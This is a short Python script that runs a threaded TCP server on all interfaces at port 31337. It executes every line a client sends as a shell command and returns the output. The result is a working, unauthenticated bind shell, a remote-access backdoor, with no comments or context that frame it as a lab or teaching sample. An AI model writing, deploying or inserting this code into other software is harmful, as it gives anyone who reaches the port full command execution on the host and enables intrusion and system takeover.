import socketserver
import subprocess

class H(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            p = subprocess.Popen(line.decode(), shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            self.wfile.write(p.communicate()[0])

socketserver.ThreadingTCPServer(("0.0.0.0", 31337), H).serve_forever()
